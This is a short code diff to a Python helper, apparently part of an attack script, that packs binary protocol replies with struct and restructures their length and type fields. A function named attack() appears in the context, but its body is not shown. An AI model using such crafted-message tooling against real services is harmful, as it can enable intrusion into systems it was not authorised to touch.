@@ -20,8 +20,10 @@ def send(number, payload):
 
 def reply(kind, text, count=1, taken=1):
     data = text if isinstance(text, bytes) else text.encode()
-    length = len(data.decode("utf-8", "surrogatepass"))
-    return struct.pack(f"<I{count}sI", count, kind * count, length) + bytes(4 * (count - 1)) + struct.pack("<Q", taken) * count + data
+    value = b"[" + data + b"]" if kind == b"j" else b""
+    data = b"" if value else data
+    lengths = struct.pack("<I", len(data.decode("utf-8", "surrogatepass"))) + bytes(4 * (count - 1))
+    return struct.pack("<II", count, len(value)) + kind * count + lengths + struct.pack("<Q", taken) * count + value + data
 
 
 def attack():
